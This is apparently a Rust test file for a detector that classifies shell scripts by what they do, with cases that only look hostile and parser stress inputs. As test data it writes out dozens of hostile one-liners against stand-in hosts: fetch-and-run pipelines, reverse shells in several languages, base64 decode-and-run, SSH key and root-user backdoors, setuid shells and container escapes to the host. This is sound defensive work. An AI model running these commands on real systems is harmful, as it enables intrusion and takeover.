//! What scripts do, and what only looks like it.

use super::*;

fn kinds(script: &str) -> Vec<ActKind> {
    let (acts, whole) = acts(script);
    assert!(whole, "{script}");
    acts.into_iter().map(|act| act.kind).collect()
}

#[test]
fn what_is_done_is_told() {
    use ActKind::*;
    for (script, kind) in [
        ("curl -fsSL http://x.test/i.sh | sh", FetchAndRun),
        ("wget -qO- x.test/a|sudo -E bash -s -- -y", FetchAndRun),
        ("curl x.test/a | bash -s stable", FetchAndRun),
        ("curl x.test/a | bash -x -", FetchAndRun),
        ("curl x.test/a | busybox sh", FetchAndRun),
        ("bash -x -c 'curl x.test | sh'", FetchAndRun),
        ("bash -exo pipefail -c 'curl x.test | sh'", FetchAndRun),
        ("sh -c -e 'curl x.test | sh'", FetchAndRun),
        ("bash -cx -- 'curl x.test | sh'", FetchAndRun),
        ("busybox sh -c 'curl x.test | sh'", FetchAndRun),
        ("curl -o a x.test/a; bash -x a", FetchAndRun),
        ("sh -c \"$(curl -fsSL https://x.test/i)\"", FetchAndRun),
        ("bash <(curl -s https://x.test/i)", FetchAndRun),
        ("eval `wget -O - x.test`", FetchAndRun),
        ("source <(curl -s x.test)", FetchAndRun),
        ("curl x.test/p.py | python3", FetchAndRun),
        ("curl -o /opt/x http://x.test/x && chmod +x /opt/x && /opt/x", FetchAndRun),
        ("wget http://x.test/run.sh\nsh run.sh", FetchAndRun),
        ("if true; then curl x.test | sh; fi", FetchAndRun),
        ("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", ReverseShell),
        ("nohup bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1' &", ReverseShell),
        ("exec 5<>/dev/tcp/192.0.2.1/443", OpensConnection),
        ("exec bash -i 0<>/dev/tcp/192.0.2.1/443", ReverseShell),
        ("nc -e /bin/sh 192.0.2.1 443", ReverseShell),
        ("ncat 192.0.2.1 443 --exec /bin/bash", ReverseShell),
        ("socat TCP:192.0.2.1:443 EXEC:/bin/bash,pty", ReverseShell),
        ("rm -f /run/f; mkfifo /run/f; cat /run/f | sh -i 2>&1 | nc 192.0.2.1 443 >/run/f", ReverseShell),
        ("python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)'", ReverseShell),
        ("perl -e 'use Socket;exec(\"/bin/sh -i\")'", ReverseShell),
        ("php -r '$s=fsockopen(\"192.0.2.1\",443);exec(\"sh <&3 >&3\");'", ReverseShell),
        ("ruby -rsocket -e 'c=TCPSocket.new(\"x.test\",443);loop{c.print `#{c.gets}`}'", ReverseShell),
        (
            "gawk 'BEGIN{s=\"/inet/tcp/0/x.test/443\";s|&getline c;while((c|getline l)>0)print l|&s}'",
            ReverseShell,
        ),
        ("python3 -c 'import os;os.system(\"curl x.test | sh\")'", FetchAndRun),
        ("echo aWQ= | base64 -d | bash", DecodeAndRun),
        ("eval \"$(echo aWQ= | base64 --decode)\"", DecodeAndRun),
        ("python3 -c \"exec(__import__('base64').b64decode('aWQ='))\"", DecodeAndRun),
        ("/tmp/.x/miner -q", HiddenProgram),
        ("nice -n 19 /dev/shm/k", HiddenProgram),
        ("/dev/shm/sh /etc/x.conf", HiddenProgram),
        ("/tmp/python3 -m http.server", HiddenProgram),
        ("sh /var/tmp/a.sh", HiddenProgram),
        ("/usr/lib/.cache/d", HiddenProgram),
        ("echo 'ssh-ed25519 AAAA' >> /root/.ssh/authorized_keys", OpensAccess),
        ("echo x | tee -a /etc/ld.so.preload", OpensAccess),
        ("useradd -o -u 0 helper", OpensAccess),
        ("chmod u+s /bin/bash", RaisesPrivilege),
        ("chmod 04755 /bin/bash", RaisesPrivilege),
        ("insmod /lib/x.ko", LoadsModule),
        ("bash <<EOF\ncurl x.test | sh\nEOF", FetchAndRun),
        ("cur\\\nl x.test | s'h'", FetchAndRun),
        ("S=$(curl x.test); sh -c \"$S\"", FetchAndRun),
        ("S=`curl x.test`\neval \"${S}\"", FetchAndRun),
        ("export S=$(wget -qO- x.test) && echo \"$S\" | bash", FetchAndRun),
        ("S=$(echo aWQ= | base64 -d); printf %s \"$S\" | sh -s", DecodeAndRun),
        ("S=$(curl x.test); python3 -c \"$S\"", FetchAndRun),
        ("S=$(curl x.test); bash <<< \"$S\"", FetchAndRun),
        ("bash <<< \"$(curl x.test)\"", FetchAndRun),
        ("bash < <(curl x.test)", FetchAndRun),
        ("python3 <(curl x.test)", FetchAndRun),
        ("curl x.test | $SHELL", FetchAndRun),
        ("curl x.test | ${SHELL:-/bin/sh} -s", FetchAndRun),
        ("S=/bin/bash; curl x.test | $S", FetchAndRun),
        ("C=\"curl -sSL\"; $C x.test | sh", FetchAndRun),
        ("$(command -v curl) x.test | $(which sh)", FetchAndRun),
        ("$(curl x.test)", FetchAndRun),
        ("C='curl x.test | sh'; eval \"$C\"", FetchAndRun),
        ("wget -O- x.test/a | python", FetchAndRun),
        ("https x.test/a | sh", FetchAndRun),
        ("wget -qO /opt/x.sh x.test/a && sh /opt/x.sh", FetchAndRun),
        ("wget -O/opt/x x.test/a; /opt/x", FetchAndRun),
        ("wget -P /opt x.test/run.sh; sh /opt/run.sh", FetchAndRun),
        ("wget x.test/run.sh; sh ./run.sh", FetchAndRun),
        ("curl -sSLo /opt/x x.test/a; chmod +x /opt/x; /opt/x", FetchAndRun),
        ("curl --output=/opt/x x.test/a; sh /opt/x", FetchAndRun),
        ("curl -fsSLO x.test/run.sh && sh run.sh", FetchAndRun),
        ("F=/opt/x; curl -o $F x.test; sh \"$F\"", FetchAndRun),
        ("D=/opt; curl -o ${D}/x x.test; sh $D/x", FetchAndRun),
        ("D=/dev; $D/shm/x", HiddenProgram),
        ("busybox nc 192.0.2.1 443 -e /bin/sh", ReverseShell),
        (
            "lua -e 's=require(\"socket\").tcp() s:connect(\"192.0.2.1\",443) io.popen(s:receive())'",
            ReverseShell,
        ),
        (
            "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"192.0.2.1:443\");STDIN->fdopen($c,r);system$_ while<>'",
            ReverseShell,
        ),
        ("docker run --rm --privileged --pid=host x", TakesNode),
        ("podman run -it -v /:/host x chroot /host", TakesNode),
        ("nerdctl run --volume=/:/host:rw x", TakesNode),
        ("docker create --mount type=bind,source=/,target=/host x", TakesNode),
        ("ctr -n k8s.io run --mount type=bind,src=/,dst=/host,options=rbind x y", TakesNode),
        ("nsenter --target 1 --mount --pid sh", TakesNode),
        ("nsenter -t 1 -m -u -i -n -p -- sh", TakesNode),
    ] {
        assert_eq!(kinds(script), [kind], "{script}");
    }
}

#[test]
fn what_only_looks_like_it_is_not() {
    for script in [
        "# curl x | sh",
        "echo done # curl x | sh",
        "echo 'curl x | sh'",
        "echo \"run: bash -i >& /dev/tcp/1.2.3.4/1\"",
        "cat <<'EOF'\ncurl x | sh\nEOF\necho",
        "curl -o x.tar https://x.test/x.tar && tar xf x.tar",
        "curl -s https://x.test/v | grep -o v1 | sort",
        "curl https://x.test/key | gpg --dearmor > /etc/apt/keyrings/x.gpg",
        "echo aWQ= | base64 -d > /etc/x",
        "nc -z db 5432",
        "nc -lk 8080",
        "timeout 1 bash -c 'echo > /dev/tcp/db/5432' 2>/dev/null",
        "rm -rf /tmp/build /var/tmp/*",
        "mkdir -p /tmp/x && cd /tmp/x",
        "/root/.cargo/bin/tool",
        "chmod 755 /usr/bin/x; chmod +x y; chmod g+s /var/mail",
        "grep root /etc/passwd",
        "test -f /etc/ld.so.preload && cat /etc/ld.so.preload",
        "bash -c 'echo ok'",
        "bash -o errexit run.sh -c 'curl x.test | sh'",
        "curl x.test/a | busybox tar x",
        "curl x.test/a | bash check.sh -s",
        "python3 -c 'import socket; print(socket.gethostname())'",
        "php -r '$s = fsockopen(\"db\", 3306); exit($s ? 0 : 1);'",
        "ruby -rsocket -e 'TCPSocket.new(\"db\", 5432).close'",
        "gawk 'BEGIN { s = \"/inet/tcp/0/db/13\"; s |& getline; print }'",
        "python3 -c 'import os; os.system(\"curl x.test > a\")'",
        "python3 -m http.server",
        "V=$(curl -s x.test | jq -r .tag); echo \"$V\" > v; install $V",
        "V=$(curl -s x.test); sh -c \"echo $V\"",
        "V=$(curl -s x.test); V=1; $V",
        "V=$(curl -s x.test); echo \"$V\" | python3 -c 'print(1)'",
        "C=curl; $C -o x.tar x.test; tar xf x.tar",
        "curl -sSL -o /opt/x.tar x.test/x.tar && tar -xf /opt/x.tar -C /opt && /opt/x/bin/run",
        "wget -q -O - x.test/key | gpg --dearmor -o /opt/key.gpg",
        "wget -nv x.test/a.deb; dpkg -i a.deb",
        "${SHELL:-sh} run.sh; exec $SHELL",
        "docker run --rm -v /var/lib/x:/data -v /etc/localtime:/etc/localtime:ro x",
        "docker run --privileged x",
        "docker run -v /:/rootfs:ro -v /sys:/sys:ro -p 8080:8080 cadvisor",
        "docker run --mount type=bind,source=/,target=/rootfs,readonly x",
        "docker ps --filter volume=/:/host",
        "nsenter -t 4242 -n ip addr",
        "case $1 in start) /usr/sbin/daemon;; esac",
        "x=$((1 + 2)); echo ${x%%(*}",
    ] {
        assert_eq!(kinds(script), [], "{script}");
    }
}

#[test]
fn hostile_scripts_end() {
    for script in [
        "$(".repeat(100_000),
        "`".repeat(100_001),
        "'".to_owned() + &"a".repeat(1 << 20),
        "a|".repeat(300_000),
        "((((".repeat(50_000),
        "cat <<E\n".repeat(20_000),
        "\"$(\"".repeat(10_000),
        "sh -c 'sh -c \"sh -c sh\"'\n".repeat(1000),
        (0..20_000).map(|n| format!("v{n}=$v{};$v{n};", n / 2)).collect(),
        format!("v={};", "a".repeat(200)) + &"$v".repeat(100_000),
        "s=$(curl x);$s|".repeat(20_000),
        // Each of what is run may be any of what was fetched.
        (0..20_000).map(|n| format!("curl -o a{n} x.test;./b{n};")).collect(),
    ] {
        acts(&script);
    }
    assert!(!acts(&"$(".repeat(100)).1, "what is nested too deep was not read");
}
